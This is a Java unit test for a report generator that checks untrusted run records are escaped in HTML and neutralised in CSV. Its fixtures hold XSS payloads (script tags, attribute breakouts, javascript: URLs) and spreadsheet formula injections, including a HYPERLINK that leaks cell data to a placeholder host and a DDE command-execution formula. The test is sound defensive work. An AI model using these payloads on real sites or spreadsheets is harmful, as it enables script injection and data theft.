package dev.lowbit.reports;

import static dev.lowbit.reports.ResultsFixture.TERNARY_ID;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import dev.lowbit.format.result.ActivationRecord;
import dev.lowbit.format.result.EpochRecord;
import dev.lowbit.format.result.MemoryRecord;
import dev.lowbit.format.result.ParityRecord;
import dev.lowbit.format.result.QuantizerRecord;
import dev.lowbit.format.result.Recipe;
import dev.lowbit.format.result.RunConfig;
import dev.lowbit.format.result.RunRecord;
import dev.lowbit.format.result.RunStatus;
import dev.lowbit.format.result.TensorMemory;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A results folder from someone else: every text field of run.json and epochs.jsonl carries markup,
 * script, a {@code javascript:} URL or a spreadsheet formula, and the report shows each one as text.
 */
class UntrustedResultsTest {

    /** Breaks out of a single-quoted or double-quoted attribute, or out of text into markup. */
    static final List<String> PAYLOADS = List.of(
            "'\"><script>document.title='x'</script>",
            "' onload='document.title=1' x='",
            "\" onmouseover=\"document.title=2\" x=\"",
            "javascript:document.title=3",
            "</script><script>document.title=4</script><!--",
            "<img src=x onerror=document.title=5>",
            "]]><svg onload=document.title=6>",
            "{{title}}{{{dataJson}}}",
            "count");

    @TempDir
    Path dir;

    private Path results() {
        return dir.resolve("results");
    }

    /** A finished run whose every text is {@code payload}; numbers as the standard study's ternary run. */
    static RunRecord crafted(String runId, String payload) {
        Recipe recipe = new Recipe(payload, payload, 0.001, payload, 64, 3, 0, payload);
        RunConfig config = new RunConfig(
                payload, payload, "fcnn-small" + payload, "ternary" + payload, payload, "none", recipe, 6000, 0.1, 1);
        QuantizerRecord quantizer = new QuantizerRecord(
                "ternary" + payload,
                3,
                List.of(-1.0, 0.0, 1.0),
                true,
                Math.log(3) / Math.log(2),
                payload,
                payload,
                new ActivationRecord(payload, 8));
        TensorMemory tensor = new TensorMemory(
                payload,
                List.of(10L, 10L),
                true,
                100,
                1,
                1.58,
                400,
                24,
                30L,
                1.2,
                List.of(20L, 60L, 20L),
                List.of(-1.0, 0.0, 1.0));
        MemoryRecord memory = new MemoryRecord(100, 100, 1, 400, 24, 30L, 20L, 22.0, List.of(tensor));
        return new RunRecord(
                runId,
                RunStatus.FINISHED,
                payload,
                config,
                quantizer,
                memory,
                ResultsFixture.MODEL,
                3,
                null,
                new ParityRecord(0.01, payload, 0.88, 2, 3),
                0.87,
                0.86,
                0.4,
                payload,
                payload,
                Map.of(payload, payload, "plugin.jar." + payload, payload));
    }

    static List<EpochRecord> craftedEpochs(String payload) {
        List<EpochRecord> epochs = new ArrayList<>();
        for (int epoch = 1; epoch <= 3; epoch++) {
            epochs.add(new EpochRecord(
                    epoch,
                    0.5,
                    0.8,
                    0.5,
                    0.8 + epoch / 100.0,
                    1,
                    0.001,
                    0.01,
                    0.2,
                    0,
                    Map.of(payload, List.of(20L, 60L, 20L))));
        }
        return epochs;
    }

    private void writeCraftedStudy() {
        ResultsFixture.writeStandardStudy(results());
        for (String payload : PAYLOADS) {
            List<EpochRecord> epochs = craftedEpochs(payload);
            RunRecord run = crafted(payload, payload);
            // The folder name is the file system's business; the run id inside run.json is the attack.
            Path folder =
                    ResultsFixture.writeEpochsOnly(results(), "crafted", "run" + PAYLOADS.indexOf(payload), epochs);
            try {
                ResultsFixture.JSON.writeValue(folder.resolve("run.json").toFile(), run);
            } catch (IOException e) {
                throw new AssertionError(e);
            }
        }
    }

    private Path write() {
        return new ReportWriter().write(results(), dir.resolve("report").resolve("index.html"), message -> {
            throw new AssertionError("no crafted run is skipped: its numbers are valid; got " + message);
        });
    }

    @Test
    void everyCraftedTextStaysTextAndNoMarkupComesFromIt() throws IOException {
        writeCraftedStudy();

        Document page = PageSafety.assertSafe(Files.readString(write()));

        assertThat(page.title()).isEqualTo("lowbit report");
        List<String> shownIds = page.select("table#runs tbody tr").eachAttr("data-run-id");
        assertThat(shownIds).as("each run id round-trips as text").containsAll(PAYLOADS);
        for (String payload : PAYLOADS) {
            Element row = page.select("table#runs tbody tr").stream()
                    .filter(r -> r.attr("data-run-id").equals(payload))
                    .findFirst()
                    .orElseThrow();
            assertThat(row.selectFirst("td.architecture").text()).isEqualTo("fcnn-small" + payload);
            // The activation spec and the layer map (no preset policy is called like a payload) come from the file too.
            assertThat(row.selectFirst("td.quantizer").text())
                    .isEqualTo("ternary" + payload + " + " + payload + " (layers " + payload + ")");
            assertThat(row.selectFirst("td.bits").text()).isEqualTo("W1.58A8");
            String target = row.selectFirst("td.run-id a").attr("href").substring(1);
            assertThat(target).as("the anchor of %s", payload).matches("run-[A-Za-z0-9._-]+");
            Element section = page.getElementById(target);
            assertThat(section.tagName()).isEqualTo("details");
            assertThat(section.selectFirst("summary code").text()).isEqualTo(payload);
        }
        // The page's own ids are not taken over by a run called "count".
        assertThat(page.getElementById("run-count").tagName()).isEqualTo("span");
    }

    @Test
    void charactersAPageMayNotHoldAreReplacedOnThePageAndKeptExactInItsData() throws IOException {
        // Found by ReportFuzzTest: jsoup reads U+FFFF as the end of its input, and lost the rest of the page.
        ResultsFixture.writeStandardStudy(results());
        String runId = "odd\uFFFF\uFDD0\u0001\u007F\u0085\u2028\uD800id";
        List<EpochRecord> epochs = ResultsFixture.epochs(0.8);
        Path folder = ResultsFixture.writeEpochsOnly(results(), "odd", "run", epochs);
        // Escaped in the file, as JSON allows: a lone surrogate half has no UTF-8 form of its own.
        ResultsFixture.JSON
                .writer()
                .with(JsonWriteFeature.ESCAPE_NON_ASCII)
                .writeValue(
                        folder.resolve("run.json").toFile(),
                        ResultsFixture.finished(
                                runId,
                                ResultsFixture.config("odd", "fcnn-small", "ternary", 1),
                                ResultsFixture.ternary(),
                                ResultsFixture.TERNARY_MEMORY,
                                epochs,
                                0.8));

        Document page = PageSafety.assertSafe(Files.readString(write()));

        assertThat(page.getElementById("raw")).as("the page is read to its end").isNotNull();
        assertThat(page.select("table#runs tbody tr").eachAttr("data-run-id"))
                .contains("odd\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\u2028\uFFFDid");
        JsonNode data = Json.MAPPER.readTree(page.getElementById("lowbit-data").data());
        List<String> embedded = new ArrayList<>();
        data.get("runs").forEach(run -> embedded.add(run.get("run").get("runId").asText()));
        assertThat(embedded).as("the raw data keeps the run id exactly").contains(runId);
        assertThat(Files.readString(ReportWriter.csvBeside(dir.resolve("report").resolve("index.html"))))
                .as("the CSV is written, in valid UTF-8")
                .contains("odd\uFFFD\uFFFD");
    }

    @Test
    void twoSuitesStoringOneRunIdGetAnAnchorEach() throws IOException {
        ResultsFixture.writeStandardStudy(results());
        List<EpochRecord> epochs = ResultsFixture.epochs(0.8);
        ResultsFixture.write(
                results(),
                ResultsFixture.finished(
                        TERNARY_ID,
                        ResultsFixture.config("again", "fcnn-small", "ternary", 1),
                        ResultsFixture.ternary(),
                        ResultsFixture.TERNARY_MEMORY,
                        epochs,
                        0.8),
                epochs);

        Document page = PageSafety.assertSafe(Files.readString(write()));

        List<String> anchors = page.select("table#runs tbody tr[data-run-id=" + TERNARY_ID + "] td.run-id a")
                .eachAttr("href");
        assertThat(anchors).containsExactlyInAnyOrder("#run-" + TERNARY_ID, "#run-" + TERNARY_ID + "-1");
    }

    @Test
    void csvTextCellsNeverStartAFormulaAndNumbersStayNumbers() throws IOException {
        ResultsFixture.writeStandardStudy(results());
        List<String> formulas = List.of(
                "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
                "+1+2",
                "@SUM(1,2)",
                "=cmd|' /C calc'!A0",
                "-2+3",
                "\t=1+1",
                "\r=1+1",
                "  =1+1",
                "a,=1+1;=2+2");
        for (int i = 0; i < formulas.size(); i++) {
            String formula = formulas.get(i);
            List<EpochRecord> epochs = ResultsFixture.epochs(0.8);
            RunRecord run = crafted(formula, formula);
            ResultsFixture.writeEpochsOnly(results(), "crafted", "run" + i, epochs);
            ResultsFixture.JSON.writeValue(
                    results()
                            .resolve("crafted")
                            .resolve("run" + i)
                            .resolve("run.json")
                            .toFile(),
                    run);
        }

        Path csv = ReportWriter.csvBeside(write());

        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> cells = new CsvMapper()
                .readerForListOf(String.class)
                .with(CsvParser.Feature.WRAP_AS_ARRAY)
                .readValues(csv.toFile())) {
            cells.forEachRemaining(rows::add);
        }
        List<String> header = rows.get(0);
        assertThat(rows).hasSize(1 + 3 + formulas.size());
        List<String> textColumns = List.of(
                "runId",
                "suite",
                "dataset",
                "architecture",
                "quantizer",
                "layerPolicy",
                "recipe",
                "estimator",
                "activations");
        for (List<String> row : rows.subList(1, rows.size())) {
            for (String column : textColumns) {
                String cell = row.get(header.indexOf(column));
                assertThat(cell)
                        .as("%s cell %s", column, cell)
                        .doesNotStartWith("\t")
                        .doesNotStartWith("\r");
                assertThat(cell.stripLeading())
                        .as("%s cell %s", column, cell)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("-")
                        .doesNotStartWith("@");
            }
        }
        // Each formula is still there, as text: with a leading ' where it would have started a formula.
        List<String> expected = formulas.stream()
                .map(f -> "=+-@\t\r".indexOf(f.stripLeading().charAt(0)) >= 0 ? "'" + f : f)
                .toList();
        for (String column :
                List.of("runId", "suite", "dataset", "layerPolicy", "recipe", "estimator", "activations")) {
            assertThat(rows.subList(1, rows.size()))
                    .extracting(row -> row.get(header.indexOf(column)))
                    .as(column)
                    .containsAll(expected);
        }
        assertThat(rows.subList(1, rows.size()))
                .extracting(row -> row.get(header.indexOf("architecture")))
                .as("a formula inside a cell stays as it is")
                .contains("fcnn-small=cmd|' /C calc'!A0");
        // A numeric column keeps its sign and stays unquoted, so a spreadsheet reads a number.
        String ternary = Files.readAllLines(csv).stream()
                .filter(line -> line.startsWith("\"" + TERNARY_ID + "\""))
                .findFirst()
                .orElseThrow();
        assertThat(ternary).containsPattern(",-1\\.3[0-9]*,").doesNotContain("'-1.3");
    }
}
